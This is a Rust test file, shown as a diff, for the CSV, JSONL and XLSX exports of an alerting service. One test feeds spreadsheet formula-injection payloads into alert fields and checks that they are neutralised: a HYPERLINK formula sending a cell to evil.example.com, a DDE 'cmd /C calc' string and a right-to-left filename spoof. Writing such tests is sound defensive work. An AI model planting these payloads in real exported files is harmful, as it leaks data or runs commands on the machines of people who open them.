@@ -1,0 +1,287 @@
+//! Lists as files, each read back by a reader of its kind.
+
+use std::io::Cursor;
+
+use calamine::{Data, DataType as _, Reader as _, Xlsx};
+use serde_json::Value;
+use tocsin_tests::{
+    Database, Options, Reply, Said, Tocsin, Webhook, ago, eventually, firing, fixture, on_both,
+};
+
+on_both!(
+    each_format_holds_what_the_list_shows,
+    a_filter_and_an_order_are_kept,
+    nasty_values_are_harmless_and_whole,
+    what_real_senders_said_comes_out_again,
+    exports_are_bounded_and_end_with_their_reader,
+);
+
+const FORMATS: [&str; 3] = ["csv", "jsonl", "xlsx"];
+
+/// A file: the names of its columns, and each row's values as text.
+type Table = (Vec<String>, Vec<Vec<String>>);
+
+async fn export(tocsin: &Tocsin, list: &str, query: &str) -> Reply {
+    tocsin
+        .look(&format!("/api/v1/{list}/export?{query}"))
+        .await
+        .expect(200)
+}
+
+fn csv(reply: &Reply) -> Table {
+    let text = reply.text();
+    let text = text.strip_prefix('\u{feff}').unwrap();
+    assert!(text.ends_with("\r\n"), "{text}");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let head = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    (head, rows)
+}
+
+fn jsonl(reply: &Reply) -> Vec<Value> {
+    let text = reply.text();
+    assert!(text.is_empty() || text.ends_with('\n'));
+    text.lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect()
+}
+
+fn workbook(reply: &Reply) -> Xlsx<Cursor<Vec<u8>>> {
+    calamine::open_workbook_from_rs(Cursor::new(reply.body.clone())).unwrap()
+}
+
+fn xlsx(reply: &Reply, sheet: &str) -> Table {
+    let range = workbook(reply).worksheet_range(sheet).unwrap();
+    let mut rows = range.rows().map(|row| row.iter().map(shown).collect());
+    (rows.next().unwrap_or_default(), rows.collect())
+}
+
+/// As CSV writes it, but for times, which a workbook holds as numbers.
+fn shown(cell: &Data) -> String {
+    match cell {
+        Data::DateTime(at) => format!("at {:.3}", at.as_f64()),
+        Data::Bool(flag) => flag.to_string(),
+        _ => cell.as_string().unwrap_or_default(),
+    }
+}
+
+async fn stocked(database: Database) -> Tocsin {
+    let tocsin = Tocsin::start(Options::on(database)).await;
+    let disk = firing("DiskFull")
+        .team("网络组")
+        .severity("critical")
+        .summary("磁盘空间不足, 7 GiB left");
+    let slow = firing("ApiSlow").team("web").severity("warning");
+    tocsin.post(&Webhook::of([disk.clone(), slow])).await;
+    tocsin.post(&Webhook::of([disk.over()])).await;
+    tocsin
+}
+
+async fn each_format_holds_what_the_list_shows(database: Database) {
+    let tocsin = stocked(database).await;
+    for (list, sheet, rows) in [("alerts", "Alerts", 3), ("incidents", "Incidents", 2)] {
+        let shown: Vec<Value> = tocsin.all(list).await;
+        assert_eq!(shown.len(), rows);
+        let lines = export(&tocsin, list, "format=jsonl").await;
+        assert!(
+            lines
+                .header("content-type")
+                .starts_with("application/x-ndjson")
+        );
+        assert_eq!(jsonl(&lines), shown, "the objects of the API, in its order");
+
+        let text = export(&tocsin, list, "").await;
+        assert_eq!(
+            text.header("content-type"),
+            "text/csv; charset=utf-8; header=present"
+        );
+        let (head, cells) = csv(&text);
+        let sheet = xlsx(&export(&tocsin, list, "format=xlsx").await, sheet);
+        assert_eq!(sheet.0, head);
+        assert_eq!((cells.len(), sheet.1.len()), (rows, rows));
+        for (index, object) in shown.iter().enumerate() {
+            assert_eq!(head.len(), object.as_object().unwrap().len(), "every field");
+            for (column, name) in head.iter().enumerate() {
+                let (expected, is_time) = match &object[name] {
+                    Value::Null => (String::new(), false),
+                    Value::String(text) => (text.clone(), name.ends_with("At")),
+                    value => (value.to_string(), false),
+                };
+                assert_eq!(cells[index][column], expected, "{name}");
+                let cell = &sheet.1[index][column];
+                if is_time {
+                    assert!(cell.starts_with("at 4"), "{name}: {cell}");
+                } else {
+                    assert_eq!(*cell, expected, "{name}");
+                }
+            }
+        }
+        for format in FORMATS {
+            let reply = export(&tocsin, list, &format!("format={format}")).await;
+            let name = reply.header("content-disposition").to_owned();
+            assert!(
+                name.starts_with(&format!("attachment; filename=\"tocsin-{list}-2")),
+                "{name}"
+            );
+            assert!(
+                name.ends_with(&format!(".{format}\"")) && !name.contains(':'),
+                "{name}"
+            );
+        }
+    }
+    let problem = tocsin
+        .look("/api/v1/alerts/export?format=ods&limit=7")
+        .await;
+    assert_eq!(problem.fields(400), ["format", "limit"]);
+}
+
+async fn a_filter_and_an_order_are_kept(database: Database) {
+    let tocsin = stocked(database).await;
+    for (list, query) in [
+        ("alerts", "q=%E7%A3%81%E7%9B%98&order=asc"),
+        ("alerts", "team=web&status=firing"),
+        ("alerts", "label=severity%3D~%22crit.*%22"),
+        ("incidents", "state=resolved"),
+        ("incidents", "sort=startsAt&order=asc"),
+        ("incidents", "alertname=nosuch"),
+    ] {
+        let shown: Vec<Value> = tocsin.all(&format!("{list}?{query}")).await;
+        let lines = export(&tocsin, list, &format!("{query}&format=jsonl")).await;
+        assert_eq!(jsonl(&lines), shown, "{list} {query}");
+        let (_, rows) = csv(&export(&tocsin, list, query).await);
+        assert_eq!(rows.len(), shown.len(), "{list} {query}");
+    }
+    let reply = export(&tocsin, "alerts", "team=web&format=xlsx").await;
+    let about = xlsx(&reply, "About");
+    assert!(
+        about.1.contains(&vec![
+            "Filter".to_owned(),
+            "team=web&format=xlsx".to_owned()
+        ]),
+        "{about:?}"
+    );
+    assert!(
+        about.1.contains(&vec!["Rows".to_owned(), "1".to_owned()]),
+        "{about:?}"
+    );
+}
+
+async fn nasty_values_are_harmless_and_whole(database: Database) {
+    let tocsin = Tocsin::start(Options::on(database)).await;
+    let long = "告".repeat(40_000);
+    let values = [
+        "=HYPERLINK(\"http://evil.example.com/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "one\r\ntwo, \"three\"",
+        "a\u{0}b",
+        "\u{1}\u{1b}[31m_x0041_",
+        "<script>&amp;</script>",
+        "\u{feff}=1",
+        "😀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 \u{202e}gnp.exe",
+        &long,
+    ];
+    let said: Vec<Said> = values
+        .iter()
+        .enumerate()
+        .map(|(number, value)| {
+            let said = firing(&format!("Odd{number:02}")).instance(value);
+            said.label("odd", value).summary(value)
+        })
+        .collect();
+    tocsin.post(&Webhook::of(said)).await;
+    let lines = jsonl(&export(&tocsin, "alerts", "format=jsonl").await);
+    let (head, rows) = csv(&export(&tocsin, "alerts", "").await);
+    let (_, sheet) = xlsx(&export(&tocsin, "alerts", "format=xlsx").await, "Alerts");
+    assert_eq!(
+        (lines.len(), rows.len(), sheet.len()),
+        (values.len(), values.len(), values.len())
+    );
+    let column = |name: &str| head.iter().position(|each| each == name).unwrap();
+    for ((line, row), cells) in lines.iter().zip(&rows).zip(&sheet) {
+        for name in ["instance", "message"] {
+            let said = line[name].as_str().unwrap();
+            let written = &row[column(name)];
+            let formula = said.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+            let expected = if formula {
+                format!("'{said}")
+            } else {
+                said.to_owned()
+            };
+            assert_eq!(*written, expected, "{name}");
+            // A cell there is a text by its type, so that nothing need be put before it.
+            let expected: String = match said.chars().count() {
+                40_000 => said.chars().take(32_767).collect(),
+                _ => said.to_owned(),
+            };
+            assert_eq!(
+                cells[column(name)].replace("\r\n", "\n"),
+                expected.replace("\r\n", "\n")
+            );
+        }
+        let labels: Value = serde_json::from_str(&row[column("labels")]).unwrap();
+        assert_eq!(labels, line["labels"]);
+    }
+}
+
+async fn what_real_senders_said_comes_out_again(database: Database) {
+    let tocsin = Tocsin::start(Options::on(database)).await;
+    for body in [
+        "alertmanager-0.25-chinese-from-prometheus",
+        "alertmanager-0.25-many-labels",
+        "alertmanager-0.25-big-410",
+        "grafana-12-1-firing",
+    ] {
+        tocsin.post_to("default", fixture(body)).await;
+    }
+    let shown: Vec<Value> = tocsin.all("alerts").await;
+    assert!(shown.len() > 410, "{}", shown.len());
+    let lines = jsonl(&export(&tocsin, "alerts", "format=jsonl").await);
+    assert_eq!(lines, shown);
+    let (_, rows) = csv(&export(&tocsin, "alerts", "").await);
+    let (_, sheet) = xlsx(&export(&tocsin, "alerts", "format=xlsx").await, "Alerts");
+    assert_eq!((rows.len(), sheet.len()), (shown.len(), shown.len()));
+}
+
+async fn exports_are_bounded_and_end_with_their_reader(database: Database) {
+    let tocsin = Tocsin::start(Options::on(database)).await;
+    // More than what fits between the two ends while nobody reads.
+    let text = "x".repeat(20_000);
+    for batch in 0..8 {
+        let said = (0..50).map(|number| {
+            let said = firing(&format!("Big{batch}-{number}")).starts(ago(60));
+            said.summary(&text)
+        });
+        tocsin.post(&Webhook::of(said)).await;
+    }
+    let http = reqwest::Client::builder().no_proxy().build().unwrap();
+    let begin = async || {
+        let url = tocsin.url("/api/v1/alerts/export");
+        let mut answer = http.get(url).send().await.unwrap();
+        assert!(answer.status().is_success());
+        assert!(answer.chunk().await.unwrap().is_some());
+        answer
+    };
+    let unread = [begin().await, begin().await];
+    let refused = tocsin.look("/api/v1/alerts/export").await;
+    refused.problem(503);
+    assert!(!refused.header("retry-after").is_empty());
+    drop(unread);
+    let whole = eventually("a place for an export", || async {
+        let reply = tocsin.look("/api/v1/alerts/export").await;
+        reply.status.is_success().then_some(reply)
+    })
+    .await;
+    assert_eq!(csv(&whole).1.len(), 400);
+}
